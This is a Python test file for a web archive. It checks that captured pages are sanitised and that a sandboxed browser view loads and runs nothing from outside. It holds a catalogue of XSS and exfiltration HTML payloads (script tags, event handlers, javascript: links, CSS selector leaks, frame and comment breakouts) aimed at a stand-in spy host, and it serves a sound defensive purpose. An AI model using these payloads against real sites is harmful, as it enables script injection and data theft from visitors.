"""Hostile captured pages in a real browser: whatever they hold, nothing runs, loads, sends or leads away."""

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from crawler.publish.evidence.archived_page import sanitise
from tests.archive.importing.pages import BODY, run_import
from tests.archive.importing.warcs import http as http_answer
from tests.archive.importing.warcs import record, write_warc
from tests.web.browsing import BROWSER_MARKS, browser, serving

HOST = "https://ttyt-mau.example.test"

ATTACKS = {
    "script": "<script>{do}</script>",
    "script of another host": "<script src='{spy}/script.js'></script>",
    "module": "<script type=module>import '{spy}/module.js'</script>",
    "handler": "<img src=x onerror=\"{do}\"><body onload=\"{do}\"><div onpointerover=\"{do}\">x</div>",
    "handler in odd case": "<ImG/sRc=x/OnErRoR={do}>",
    "javascript link": "<a id=go href=\"javascript:{do}\">go</a><a href='java&#10;script:{do}'>go</a>",
    "data link": "<a id=go href=\"data:text/html,<script>{do}</script>\">go</a>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={spy}/refresh'>",
    "base": "<base href='{spy}/'><img src='base.png'><a href='x'>x</a>",
    "form": "<form id=f action='{spy}/form'><input name=q autofocus onfocus=\"{do}\"><button>go</button></form>",
    "button of a form": "<button formaction='{spy}/button' form=f>go</button><input type=image src='{spy}/input.png'>",
    "svg": "<svg onload=\"{do}\"><script>{do}</script><image href='{spy}/svg.png'/><use href='{spy}/u.svg#a'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=\"{do}\"></style></mglyph></table></mtext></math>",
    "css": "<style>@import '{spy}/css';p{{background:url({spy}/bg)}}</style><p style='background:url({spy}/st)'>",
    "css selectors": "<style>input[value^=a]{{background:url({spy}/leak)}}</style><input value=abc>",
    "stylesheet": "<link rel=stylesheet href='{spy}/sheet.css'><link rel=preload as=image href='{spy}/pre.png'>",
    "prefetch": "<link rel=prefetch href='{spy}/pf'><link rel=dns-prefetch href='{spy}'><link rel=icon href='{spy}/i'>",
    "frame": "<iframe src='{spy}/frame'></iframe><iframe srcdoc='<script>{do}</script>'></iframe>",
    "frames": "<frameset><frame src='{spy}/frameset'></frameset>",
    "object": "<object data='{spy}/object'></object><embed src='{spy}/embed'><applet code='{spy}/applet'></applet>",
    "pictures": "<img src='{spy}/a.png'><img srcset='{spy}/b.png 2x'><picture><source srcset='{spy}/c'></picture>",
    "media": "<video poster='{spy}/p' src='{spy}/v' autoplay></video><audio src='{spy}/a' autoplay></audio>",
    "old attributes": "<table background='{spy}/t'><tr><td background='{spy}/td'></table><body background='{spy}/b'>",
    "data picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{do}'/>\">",
    "blob": "<img src='blob:{spy}/1'><a id=go href='blob:{spy}/1'>go</a>",
    "ping": "<a id=go href='{spy}/link' ping='{spy}/ping' target=_top>go</a>",
    "target": "<a id=go href='{spy}/blank' target=_blank rel=opener>go</a>",
    "broken out of text": "<textarea></textarea><img src=x onerror=\"{do}\"><title></title><script>{do}</script>",
    "comment": "<!--><script>{do}</script>--><![CDATA[><script>{do}</script>]]>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=\"{do}\">'></noscript>",
    "template": "<template><script>{do}</script></template><p><template shadowrootmode=open><img src=x onerror={do}>",
    "xss in the title": "<h1>&lt;script&gt;{do}&lt;/script&gt;</h1>",
    "import map": "<script type=importmap>{{}}</script><object type='text/html' data='data:text/html,x'></object>",
    "picture mark": "<img src='image:0'><img src='/captures/1/file' onerror=\"{do}\">",
}  # fmt: skip


class Spy(http.server.BaseHTTPRequestHandler):
    """A host that notes whatever it is asked for."""

    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_arguments: Any) -> None:
        pass


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_that_acts_is_left(name: str) -> None:
    html = sanitise(page_with(name, "https://spy.test"), f"{HOST}/x").html.lower()
    for sign in ("<script", "<style", "<iframe", "<svg", "<form", "<meta", "<base", "<link", "<object", "javascript:"):
        assert sign not in html
    for sign in (" on", " style=", " href=", " srcset=", " background=", "data:", "blob:"):
        assert not [tag for tag in html.split("<") if sign in tag.partition(">")[0]]
    assert "spy.test" not in html
    assert "trung tâm y tế huyện" in html


def page_with(name: str, spy: str) -> str:
    attack = ATTACKS[name].format(do="window.top.name='owned';document.title='owned'", spy=spy)
    paragraphs = "".join(f"<p>{line}</p>" for line in BODY)
    heading = f"<h1>Bài {name}</h1><p class=date>Ngày đăng: 05/03/2024</p>"
    return f"<!DOCTYPE html><html><head><title>x</title></head><body>{heading}{paragraphs}{attack}</body></html>"


@pytest.fixture(scope="module")
def spy() -> Iterator[Any]:
    handler = type("ModuleSpy", (Spy,), {"asked": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    server.asked = handler.asked  # type: ignore[attr-defined]  # for the tests
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory, spy: Any) -> Iterator[str]:
    folder: Path = tmp_path_factory.mktemp("hostile")
    source = f"http://127.0.0.1:{spy.server_address[1]}"
    records = [
        record(f"{HOST}/tin/bai-{number}.html", "2024-05-06T01:02:03Z", http_answer(page_with(name, source).encode()))
        for number, name in enumerate(ATTACKS)
    ]
    run_import(folder / "archive.db", write_warc(folder / "x.warc.gz", records), "--new-office")
    with serving(folder / "archive.db") as served:
        yield served


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    with browser() as opened:
        yield opened


class TestInChromium:
    pytestmark = BROWSER_MARKS

    def test_no_page_runs_loads_or_leads_away(self, chromium: Any, address: str, spy: Any) -> None:
        context = chromium.new_context(locale="en-GB")
        elsewhere: list[str] = []
        context.on("request", lambda one: elsewhere.append(one.url) if not one.url.startswith(address) else None)
        page = context.new_page()
        for number, name in enumerate(ATTACKS, start=1):
            for path in (f"/captures/{number}", f"/captures/{number}/page"):
                page.goto(address + path, wait_until="load")
                page.evaluate("window.name = ''") if path.endswith(str(number)) else None
                frame = page.frames[-1]
                frame.wait_for_load_state("load")
                assert "Trung tâm y tế huyện" in frame.locator("body").inner_text(), name
                for link in frame.locator("#go, button, a").all()[:5]:
                    if frame is not page.main_frame or path.endswith("page"):
                        link.click(force=True, timeout=2000)
                assert page.url == address + path, name
                assert page.title() != "owned", name
                assert len(context.pages) == 1, name
                assert page.locator("body").count() == 1
        context.close()
        assert elsewhere == []
        assert spy.asked == []

    def test_the_frame_has_no_rights(self, chromium: Any, address: str) -> None:
        """Were a script to come through, it could not run: the frame and the page's own policy forbid it."""
        context = chromium.new_context()
        page = context.new_page()
        page.goto(f"{address}/captures/1")
        frame = page.frames[-1]
        assert frame is not page.main_frame
        answer = page.request.get(f"{address}/captures/1/page")
        assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
        assert page.locator("iframe").get_attribute("sandbox") == ""
        context.close()

    def test_a_dead_address_opens_its_notice_in_one_step(self, chromium: Any, address: str) -> None:
        context = chromium.new_context(locale="en-GB")
        page = context.new_page()
        page.goto(f"{address}/")
        page.get_by_role("searchbox").fill(f"{HOST}/tin/bai-3.html")
        page.keyboard.press("Enter")
        page.wait_for_url("**/archive/articles/*")
        page.get_by_role("link", name="The archived page").first.click()
        assert page.frame_locator("iframe.archived").get_by_text("Trung tâm y tế huyện").first.is_visible()
        page.get_by_role("link", name="Time line").click()
        assert page.get_by_role("heading", name="Time line").is_visible()
        context.close()
